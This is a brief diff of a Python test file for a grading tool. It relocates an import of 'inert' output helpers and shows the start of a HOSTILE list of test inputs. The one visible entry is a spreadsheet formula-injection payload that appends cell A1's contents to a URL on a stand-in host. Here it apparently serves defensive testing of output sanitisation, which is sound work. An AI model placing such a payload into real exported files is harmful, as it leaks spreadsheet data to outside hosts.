@@ -10,8 +10,8 @@ from checker.grading.formats.feedback import feedback_markdown
 from checker.grading.formats.gradebook import gradebook_csv
 from checker.grading.formats.junit import junit_xml
 from checker.grading.formats.write import read_batch, write_batch
-from checker.grading.inert import cell, markdown, plain
 from checker.grading.model import Batch, KataGrade, SubmissionGrade
+from checker.inert import cell, markdown, plain
 
 HOSTILE = [
     '=HYPERLINK("http://x.example/?"&A1,"ok")',
